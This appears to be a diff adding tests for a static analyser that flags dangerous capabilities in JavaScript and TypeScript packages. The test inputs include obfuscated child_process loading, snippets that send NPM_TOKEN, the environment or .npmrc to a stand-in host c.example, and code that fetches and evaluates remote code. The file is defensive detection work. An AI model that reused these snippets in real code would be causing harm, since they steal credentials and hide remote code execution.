@@ -1,0 +1,196 @@
+import assert from "node:assert/strict";
+import { test } from "node:test";
+import type { Reading } from "../files-gather.ts";
+import { Lines } from "../files-gather.ts";
+import { javascriptReading, typescriptReading } from "./reading.ts";
+
+const read = (source: string): Reading => javascriptReading(source, new Lines(source));
+const seen = (source: string): readonly string[] =>
+  read(source).sightings.map(({ capability, subject }) => (subject === "" ? capability : `${capability} ${subject}`));
+const flowing = (source: string): readonly string[] => read(source).flows.map(({ from, to }) => `${from} -> ${to}`);
+
+test("a module is recognised however its name is written or its loader is called", () => {
+  for (const source of [
+    `require("child_process").exec("id")`,
+    `const r = require; const { exec: run } = r("node:child_process"); run("id")`,
+    `const m = require("child_" + "process"); m["ex" + "ec"]("id")`,
+    `const m = require(["child", "process"].join("_")); m.exec.call(null, "id")`,
+    `const m = require("ssecorp_dlihc".split("").reverse().join("")); m.exec("id")`,
+    `const m = require(Buffer.from("Y2hpbGRfcHJvY2Vzcw==", "base64").toString()); m.exec("id")`,
+    `const m = require(String.fromCharCode(99, 104, 105, 108, 100) + "_process"); m.exec("id")`,
+    `const m = require([98, 103, 104, 107, 99, 94, 111, 113, 110, 98, 100, 114, 114].map((c) => String.fromCharCode(c + 1)).join("").replace("_", "_")); m.exec("id")`,
+    `\\u0072equire("child_process").exec("id")`,
+    `import { createRequire } from "module"; createRequire(import.meta.url)("child_process").exec("id")`,
+    `const cp = process.getBuiltinModule("child_process"); cp.exec("id")`,
+    `globalThis["req" + "uire"]("child_process").exec("id")`,
+    `(0, require)("child_process").exec("id")`,
+    `const { exec } = await import("node:child_process"); exec("id")`,
+    `import("child_process").then((m) => m.exec("id"))`,
+    `later("id"); function later(c) { load("child_process").exec(c) } var load = require;`,
+    `// comment\rrequire("child_process").exec("id")`,
+  ])
+    assert.ok(seen(source).includes("process id"), source);
+});
+
+test("what only looks like a capability is none", () => {
+  for (const source of [
+    `// require("child_process").exec("id")`,
+    `const text = 'require("child_process").exec("id")';`,
+    `function require2(name) { return name } require2("child_process").exec("id")`,
+    `function f(require) { return require("child_process") } f((x) => x)`,
+    `class A { fetch() { return this.fetch() } eval() {} } new A().eval("1")`,
+    `const process = { env: { NPM_TOKEN: 1 } }; use(process.env.NPM_TOKEN)`,
+    "/require('child_process')/.test(x)",
+    `const pattern = /"/; const s = "require('child_process')";`,
+  ])
+    assert.deepEqual(
+      seen(source).filter((line) => line !== "dynamic-import"),
+      [],
+      source,
+    );
+});
+
+test("a name that was pieced together is said to be concealed, an ordinary one is not", () => {
+  const concealed = (source: string): boolean => read(source).sightings.some((sighting) => sighting.concealed);
+  assert.equal(concealed(`require("child_" + "process")`), true);
+  assert.equal(concealed(`globalThis["ev" + "al"](x)`), true);
+  assert.equal(concealed(`[]["constructor"]["constructor"]("return process")().mainModule.require("fs")`), true);
+  assert.equal(concealed(`require("child_process")`), false);
+  assert.equal(concealed(`process["env"]["HOME"]`), false);
+});
+
+test("what is read from the machine is followed to where it is sent", () => {
+  assert.deepEqual(flowing(`const t = process.env.NPM_TOKEN; const b = { t }; fetch("https://c.example", { body: JSON.stringify(b) })`), [
+    "credential-variable -> network",
+  ]);
+  assert.deepEqual(
+    flowing(`const q = require("https").request({ host: "c.example" }); const e = JSON.stringify(process.env); q.write(e); q.end()`),
+    ["environment-whole -> network"],
+  );
+  assert.deepEqual(
+    flowing(
+      `const fs = require("fs"), os = require("os"), path = require("path"); send(fs.readFileSync(path.join(os.homedir(), ".npmrc"))); function send(x) { require("axios").post("https://c.example", x) }`,
+    ),
+    ["credential-file -> network"],
+  );
+  assert.deepEqual(flowing(`fetch("https://c.example/p").then((r) => r.text()).then((t) => eval(t))`), ["network -> dynamic-code"]);
+  assert.deepEqual(
+    flowing(
+      `require("https").get("https://c.example", (r) => { let b = ""; r.on("data", (c) => (b += c)); r.on("end", () => new Function(b)()) })`,
+    ),
+    ["network -> dynamic-code"],
+  );
+  assert.deepEqual(flowing(`eval(atob("${"QUJD".repeat(40)}"))`), ["encoded-text -> dynamic-code"]);
+  assert.deepEqual(flowing(`const base = process.env.API_URL; fetch(base + "/v1"); use(process.env.NPM_TOKEN)`), []);
+});
+
+test("names, order, line breaks and decoys change nothing of what is seen", () => {
+  const source = `const https = require("https");\nconst data = JSON.stringify(process.env);\nfunction send(body) { const out = https.request({ hostname: "c.example" }); out.end(body); }\nsend(data);\n`;
+  const lines = source.trimEnd().split("\n");
+  const plain = { seen: seen(source), flows: flowing(source) };
+  assert.deepEqual(plain.flows, ["environment-whole -> network"]);
+  const renamed = source
+    .replaceAll("send", "a")
+    .replaceAll("body", "b")
+    .replaceAll("data", "c")
+    .replaceAll("out.", "d.")
+    .replaceAll("out =", "d =");
+  const reordered = [lines[2], lines[0], lines[1], lines[3]].join("\n");
+  const minified = source.replaceAll(/\n/g, "");
+  const decoys = `${"function decoy(a) { return a + 1 }\n".repeat(2_000)}${source}${"const unused = [1, 2, 3];\n".repeat(2_000).replaceAll("unused", "u")}`;
+  for (const variant of [renamed, reordered, minified, decoys]) assert.deepEqual({ seen: seen(variant), flows: flowing(variant) }, plain);
+});
+
+test("TypeScript and JSX are read as well as JavaScript", () => {
+  const source = `import type { A } from "./a.ts";\nimport cp = require("child_process");\nexport abstract class B<T extends A> implements C { private readonly x?: Map<string, T[]>; constructor(private y: number) { super() }\n  async run<U>(this: B<T>, c: U & string): Promise<void> { cp.exec(c as string); (<any>cp).spawn("id") } }\nenum D { One = 1 }\ndeclare module "z" { export const q: number }\n`;
+  const reading = typescriptReading(source, new Lines(source));
+  assert.equal(reading.because, "");
+  assert.deepEqual(
+    reading.sightings.map(({ capability, subject }) => `${capability} ${subject}`),
+    ["process ", "process id"],
+  );
+  assert.deepEqual(
+    reading.imports.map(({ specifier, typeOnly }) => [specifier, typeOnly]),
+    [
+      ["./a.ts", true],
+      ["child_process", false],
+    ],
+  );
+  const jsx = `const App = () => <div title="it's {fine}" onClick={() => fetch("https://c.example")}>don't <b.c {...p}/> {x > 1 && <i>y</i>}</div>; eval(z);`;
+  assert.equal(read(jsx).because, "");
+  assert.deepEqual(seen(jsx), ["dynamic-code eval", "network c.example"]);
+});
+
+test("code at the top is told from code that waits to be called", () => {
+  const when = (source: string): string => read(source).sightings.find(({ capability }) => capability === "network")?.when ?? "none";
+  assert.equal(when(`fetch("https://c.example")`), "load");
+  assert.equal(when(`(function () { setTimeout(() => fetch("https://c.example"), 9) })()`), "load");
+  assert.equal(when(`go(); function go() { fetch("https://c.example") }`), "load");
+  assert.equal(when(`exports.go = function () { fetch("https://c.example") }`), "call");
+});
+
+test("replaced globals, endless loops and wallets are seen", () => {
+  assert.deepEqual(seen(`window.fetch = mine; XMLHttpRequest.prototype.open = mine`), [
+    "global-hook XMLHttpRequest.prototype.open",
+    "global-hook fetch",
+  ]);
+  assert.deepEqual(seen(`for (let i = 666; i < Infinity; i++) { console.log("x") }`), ["endless-loop"]);
+  assert.deepEqual(seen(`while (true) { if (done()) break }`), []);
+  assert.ok(seen(`window.ethereum.request({})`).includes("wallet ethereum"));
+});
+
+test("hostile source is read to its end within a moment, and what it asks for is seen all the same", () => {
+  const n = 50_000;
+  for (const [prefix, needsTokens] of [
+    [`${"(".repeat(n)}1${")".repeat(n)};`, true],
+    [`${"[".repeat(n)}`, true],
+    [`${"!".repeat(n)}1;`, false],
+    [`${"x=>".repeat(n)}1;`, true],
+    [`a='x'${"+'y'".repeat(n)};`, false],
+    [`process${".env".repeat(n)};`, false],
+    [`if(0);${"else if(b)c();".repeat(n)}`, false],
+    [`const __proto__ = { constructor: 1, hasOwnProperty: 2 }; @#\u0000 let = ;;`, null],
+  ] as const) {
+    const source = `${prefix}\nrequire("child_process")`;
+    const began = performance.now();
+    const reading = read(source);
+    assert.ok(performance.now() - began < 5_000);
+    if (needsTokens !== null) assert.equal(reading.depth, needsTokens ? "tokens" : "tree", prefix.slice(0, 20));
+    assert.ok(
+      reading.imports.some(({ specifier }) => specifier === "child_process"),
+      prefix.slice(0, 20),
+    );
+  }
+});
+
+test("no mutation of source makes the analysis fail, and the same source gives the same facts", () => {
+  const seed = `import a, { b as c } from "x"; const { d = 1, ...e } = require("fs"); async function* f(g, [h] = [], ...i) { for await (const j of k) yield* j; } class L extends M { static #n = 1; get o() { return this.#n } static { p() } } label: for (;;) { break label } x = a ? (b) : c => d; \`t\${u\`v\${1}\`}w\`; y ??= /[/]\\//g.test(z) / 2; eval(process.env.A + "b")`;
+  let state = 42;
+  const random = (below: number): number => {
+    state = (Math.imul(state, 1_103_515_245) + 12_345) >>> 0;
+    return state % below;
+  };
+  const pieces = [
+    ..."(){}[]<>;:,.?=+-*/\\`'\"$#@! \n",
+    "=>",
+    "...",
+    "async ",
+    "function",
+    "class ",
+    "${",
+    "/*",
+    "//",
+    "import",
+    "\u2028",
+    "\ud800",
+  ];
+  for (let round = 0; round < 3_000; round++) {
+    let source = seed;
+    for (let change = random(4); change >= 0; change--) {
+      const at = random(source.length);
+      source = source.slice(0, at) + (random(3) === 0 ? "" : pieces[random(pieces.length)]) + source.slice(at + random(6));
+    }
+    const first = JSON.stringify(read(source));
+    if (round % 100 === 0) assert.equal(JSON.stringify(read(source)), first);
+  }
+});
